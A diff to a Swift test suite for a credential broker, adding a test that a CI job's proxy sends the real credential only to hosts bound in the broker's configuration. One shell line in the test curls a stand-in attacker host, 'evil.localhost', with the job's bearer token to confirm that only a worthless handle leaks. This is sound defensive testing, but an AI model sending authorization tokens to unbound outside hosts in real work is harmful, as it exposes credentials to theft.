@@ -54,7 +54,7 @@ final class ServedBroker: @unchecked Sendable {
         var job: [String: String]
     }
 
-    func fixture(_ label: String) throws -> Fixture {
+    func fixture(_ label: String, config extraConfig: String = "") throws -> Fixture {
         let scratch = TestSupport.makeTemporaryDirectory(label)
         let requestToken = TestSupport.secret("\(label)-actions-request")
         let issuer = try LoopbackServer(script: "workload_issuer.py", arguments: ["--request-token-env", "REQUEST_TOKEN",
@@ -74,6 +74,7 @@ final class ServedBroker: @unchecked Sendable {
             [[grant]]
             principals = ["ci:acme/app"]
             services = ["deploy"]
+            \(extraConfig)
             """.write(to: config, atomically: true, encoding: .utf8)
         let database = "sqlite:" + scratch.appendingPathComponent("broker.db").path
         let vaultKey = Data((0..<32).map { _ in UInt8.random(in: 0...255) }).base64EncodedString()
@@ -141,6 +142,35 @@ final class ServedBroker: @unchecked Sendable {
             #expect(!output.stdout.contains("eyJ") && !output.stderr.contains("eyJ"))
             #expect(!output.stderr.contains(f.requestToken))
         }
+        expectNothingPersisted(sandbox)
+    }
+
+    /// The broker binds hosts (broker.toml's `[[service]]`) and says so in each exchange
+    /// answer (`kontext_hosts`): a job's `run --proxy` gets a handle for a service that no
+    /// configuration of its own binds, and the proxy sends the credential only to those hosts.
+    @Test func theBrokersHostBindingsReachTheJobsProxy() throws {
+        let f = try fixture("ci-proxy", config: "[[service]]\nname = \"deploy\"\nhosts = [\"api.deploy.localhost\"]\n")
+        let ca = try TestCA()
+        let upstream = try Upstream(ca: ca)
+        defer { upstream.stop() }
+        let sandbox = Sandbox("ci-proxy")
+        sandbox.write(".env.kontext", "DEPLOY_KEY=<<kontext:deploy>>\n", trusted: false)
+        let script = """
+            printf %s "$DEPLOY_KEY" > handle
+            curl -sS -H "Authorization: Bearer $DEPLOY_KEY" https://api.deploy.localhost:\(upstream.port)/deploy; echo
+            curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $DEPLOY_KEY" https://evil.localhost:\(upstream.port)/x
+            """
+        var environment = githubJob(f)
+        environment["KONTEXT_CA_BUNDLE"] = ca.caFile
+        let result = try sandbox.kontext(["run", "--proxy", "--", "sh", "-c", script], environment: environment)
+        #expect(result.status == 0, "\(result.stderr)")
+        // evil.localhost is bound to no service and tunnelled blind: its server got the handle, worthless.
+        #expect(result.stdout == "{\"ok\": true}\n200", "\(result.stdout) \(result.stderr)")
+        let handle = try String(contentsOf: sandbox.workingDirectory.appendingPathComponent("handle"), encoding: .utf8)
+        #expect(handle.hasPrefix("kxh_"), "the job holds a handle, not the credential")
+        let sent = upstream.requests().map { $0["authorization_sha256"] as? String }
+        #expect(sent == [try sha256Hex("Bearer \(f.credential)"), try sha256Hex("Bearer \(handle)")])
+        #expect(!result.stdout.contains(f.credential) && !result.stderr.contains(f.credential))
         expectNothingPersisted(sandbox)
     }
 
